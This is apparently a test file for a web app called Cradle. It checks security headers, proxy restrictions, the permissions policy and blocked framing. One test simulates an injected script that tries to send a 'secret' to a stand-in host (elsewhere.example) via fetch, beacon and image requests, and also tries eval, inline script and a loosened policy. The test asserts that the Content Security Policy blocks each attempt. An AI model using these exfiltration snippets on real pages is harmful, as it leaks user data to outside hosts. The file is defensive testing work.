import { readFileSync, readdirSync } from 'node:fs';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { preview } from 'vite';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { shareHosts } from '../../src/domain/share-hosts.ts';
import { endpoints, SERVICES_PATH } from '../../src/protocol/share/endpoints.ts';
import { appHeaders, cacheControl } from '../../src/proxy/app-headers.ts';
import { withHeaders } from '../../src/proxy/vite.ts';
import { PASSWORD, Stage } from './support/stage.ts';
import { violationsAloud } from './support/violations.ts';

const stage = new Stage();
const root = fileURLToPath(new URL('../../', import.meta.url));
const headersText = readFileSync(`${root}dist/_headers`, 'utf8');

beforeAll(() => stage.open());
afterEach(() => stage.clear());
afterAll(() => stage.close());

/** Every address of the built app. */
const paths = [
  '/',
  ...readdirSync(`${root}dist`, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== '_headers')
    .map(({ parentPath, name }) => `/${`${parentPath}/${name}`.slice(`${root}dist/`.length)}`),
];

async function headersOf(url: string, names: readonly string[]): Promise<(string | null)[]> {
  const answer = await fetch(url);
  await answer.arrayBuffer();
  expect([url, answer.status]).toEqual([url, 200]);
  return names.map((name) => answer.headers.get(name));
}

/** What a static host adds, as both kinds of host do it: all rules that fit, and a name that comes twice joined by commas. */
function ruled(path: string): Record<string, string> {
  const found: Record<string, string> = {};
  let fits = false;
  for (const line of headersText.split('\n').filter((each) => each !== '')) {
    if (!line.startsWith(' ')) {
      fits = line.endsWith('*') ? path.startsWith(line.slice(0, -1)) : path === line;
      continue;
    }
    const [name = '', value = ''] = line.trim().split(/: (.*)/s);
    if (fits) found[name] = found[name] === undefined ? value : `${found[name]}, ${value}`;
  }
  return found;
}

describe('every file of the app comes with the security headers', () => {
  const names = Object.keys(appHeaders);
  const values = Object.values(appHeaders);

  test('from Cradle’s own server', async () => {
    expect(paths.length).toBeGreaterThan(30);
    for (const path of paths) {
      const found = await headersOf(stage.server.origin + path, [...names, 'Cache-Control']);
      expect([path, found]).toEqual([path, [...values, cacheControl(path)]]);
    }
  });

  test('from vite preview', async () => {
    const server = await preview({ root, logLevel: 'silent', preview: { port: 0 } });
    const { port } = server.httpServer.address() as AddressInfo;
    for (const path of paths) expect([path, await headersOf(`http://localhost:${port}${path}`, names)]).toEqual([path, values]);
    await server.close();
  });

  test('from a host of static files, which reads _headers and keeps to its own limits', () => {
    for (const path of paths) expect([path, ruled(path)]).toEqual([path, { ...appHeaders, 'Cache-Control': cacheControl(path) }]);
    expect(ruled('/assets/of-another-day.js')['Cache-Control']).toMatch(/immutable$/);
    // Cloudflare's: 100 rules, 2,000 characters a line.
    expect(headersText.split('\n').filter((line) => line.startsWith('/')).length).toBeLessThanOrEqual(100);
    expect(Math.max(...headersText.split('\n').map((line) => line.length))).toBeLessThan(2000);
  });

  test('and each file that the service worker keeps is asked for anew when they change', () => {
    const revisionOf = (headers: Readonly<Record<string, string>>): string => withHeaders([{ url: '/' }], headers)[0]!.revision;
    const revision = revisionOf(appHeaders);
    expect(revisionOf({ ...appHeaders, 'X-New': '1' })).not.toBe(revision);
    const worker = readFileSync(`${root}dist/service-worker.js`, 'utf8');
    const kept = [...worker.matchAll(/\{"revision":"?([^",]*)"?,"url":"([^"]*)"\}/g)].filter(([, , url]) => url !== 'manifest.webmanifest');
    expect(kept.length).toBeGreaterThan(30);
    for (const [, own, url] of kept) expect([url, own]).toEqual([url, expect.stringMatching(new RegExp(`${revision}$`))]);
  });

  test('and _headers itself is no part of the page', () => {
    expect(readFileSync(`${root}dist/service-worker.js`, 'utf8')).not.toContain('_headers');
  });
});

test('vite preview has the same proxy: it lets a listed call ask first, and refuses any other', async () => {
  const server = await preview({ root, logLevel: 'silent', preview: { port: 0 } });
  const origin = `http://localhost:${(server.httpServer.address() as AddressInfo).port}`;
  const share = `${origin}/share/${shareHosts.us}/${SERVICES_PATH}`;
  const headers = { Origin: origin, 'Access-Control-Request-Method': 'GET' };
  expect((await fetch(`${share}${endpoints.systemUtcTime.path}`, { method: 'OPTIONS', headers })).status).toBe(204);
  const refused = await fetch(`${share}Publisher/ListPublisherAccountSubscriptions`, { method: 'POST', headers });
  expect([refused.status, await refused.json()]).toEqual([403, { error: 'This call is not on the list of the proxy.', proxy: 'cradle' }]);
  await server.close();
});

test('the app lives within its own policy, all of it', async () => {
  const accountName = 'careful';
  stage.upstream.share.addAccount({ accountName, password: PASSWORD, assignedSerial: 'PR00000061', followers: 1 });
  const plan = stage.plan({ days: 1, serial: 'PR00000061' });
  const { browser, cradle } = await stage.scene({ plan, script: violationsAloud });
  await cradle.installed();
  await cradle.connect();
  await cradle.signIn({ accountName, password: PASSWORD });
  await cradle.startSharing();
  await cradle.allSent();
  await cradle.page.locator('canvas').waitFor();
  const dialog = cradle.page.getByRole('dialog').last();
  for (const name of ['Show each reading', 'Check my account', 'Details']) {
    await cradle.button(name).click();
    await dialog.waitFor();
    await cradle.page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
  }
  await cradle.button('Settings').click();
  await cradle.button('Test').click();
  await cradle.says('The proxy works: Share answers.');
  await cradle.button('Your data…').click();
  await cradle.page.getByRole('dialog', { name: 'Your data' }).waitFor();

  // By what the service worker kept, and in practice.
  await cradle.page.reload();
  await cradle.status('Following');
  await cradle.page.goto(`${stage.server.origin}/?practice`);
  await cradle.status('Following');
  await cradle.page.locator('canvas').waitFor();
  expect(browser.complaints).toEqual([]);
});

test('a phone’s way to the receiver lives within it too', async () => {
  const { cradle } = await stage.scene({ plan: stage.plan({ days: 1, phone: 'free' }), script: violationsAloud });
  await cradle.connect();
});

test('what the page does not use is off, and what it uses is not', async () => {
  const { cradle } = await stage.scene();
  const allows = await cradle.page.evaluate((features) => {
    const { featurePolicy } = document as Document & { readonly featurePolicy: { allowsFeature(name: string): boolean } };
    return Object.fromEntries(features.map((name) => [name, featurePolicy.allowsFeature(name)]));
  }, ['serial', 'usb', 'screen-wake-lock', 'camera', 'microphone', 'geolocation', 'hid', 'payment', 'display-capture', 'clipboard-read']);
  expect(allows).toEqual({
    serial: true,
    usb: true,
    'screen-wake-lock': false,
    camera: false,
    microphone: false,
    geolocation: false,
    hid: false,
    payment: false,
    'display-capture': false,
    'clipboard-read': false,
  });
});

/** What each attempt of a script that got into the page comes to, and what stood in its way. */
const attempts: Readonly<Record<string, readonly [outcome: string, directive: string]>> = {
  fetch: ['TypeError', 'connect-src'],
  'fetch on this computer': ['TypeError', 'connect-src'],
  beacon: ['nothing', 'connect-src'],
  image: ['nothing', 'img-src'],
  'inline script': ['nothing', 'require-trusted-types-for'],
  eval: ['EvalError', 'require-trusted-types-for'],
  innerHTML: ['TypeError', 'require-trusted-types-for'],
  worker: ['TypeError', 'require-trusted-types-for'],
  'a policy of its own': ['TypeError', 'trusted-types'],
  'a wider policy': ['TypeError', 'connect-src'],
};

test('a script that got into the page calls nobody by itself, and makes no further script', async () => {
  const { browser, cradle } = await stage.scene();
  browser.forgive(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/);
  await cradle.button('Test').waitFor();
  for (const [attempt, [outcome, directive]] of Object.entries(attempts)) {
    const found = await cradle.page.evaluate(tried, attempt);
    expect([attempt, found]).toEqual([attempt, { outcome, directives: expect.arrayContaining([directive]) }]);
  }
});

/** Runs in the page. */
async function tried(attempt: string): Promise<{ readonly outcome: string; readonly directives: readonly string[] }> {
  const directives: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.push(effectiveDirective));
  const ran = (): string => document.documentElement.dataset['ran'] ?? 'nothing';
  const byName: Readonly<Record<string, () => unknown>> = {
    fetch: () => fetch('https://elsewhere.example/').then(() => 'fetched'),
    'fetch on this computer': () => fetch('http://127.0.0.1:9/').then(() => 'fetched'),
    beacon: () => (navigator.sendBeacon('https://elsewhere.example/', 'secret'), ran()),
    image: () => ((new Image().src = 'https://elsewhere.example/?secret'), ran()),
    'inline script': () => {
      const script = document.createElement('script');
      script.append('document.documentElement.dataset.ran = "ran"');
      document.head.append(script);
      return ran();
    },
    eval: () => Reflect.get(globalThis, 'eval')('1'),
    innerHTML: () => (document.body.innerHTML = '<p>'),
    worker: () => new Worker('/assets/any.js'),
    'a policy of its own': () => globalThis.trustedTypes?.createPolicy('cradle', { createScriptURL: (url) => url }),
    'a wider policy': async () => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Content-Security-Policy';
      meta.content = 'connect-src *';
      document.head.append(meta);
      await fetch('https://elsewhere.example/');
    },
  };
  // A task of the page's own: what the debugger itself runs may do more.
  await new Promise((resolve) => setTimeout(resolve));
  const outcome = await Promise.resolve()
    .then(byName[attempt])
    .then(String, (error: Error) => error.name);
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { outcome, directives };
}

test('no page elsewhere can frame it', async () => {
  const { browser } = await stage.scene();
  browser.forgive(/frame-ancestors|Framing|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE/);
  const frames = createServer((_request, response) => {
    // With an icon of its own: the browser would ask for one at any time, also when this server is gone.
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<link rel="icon" href="data:,"><iframe src="${stage.server.origin}/"></iframe>`);
  });
  frames.listen(0, '127.0.0.1');
  await once(frames, 'listening');
  const page = await browser.open(`http://localhost:${(frames.address() as AddressInfo).port}/`);
  await expect.poll(() => page.frames().map((frame) => frame.url()), { timeout: 20_000 }).toContain('chrome-error://chromewebdata/');
  frames.closeAllConnections();
  frames.close();
});
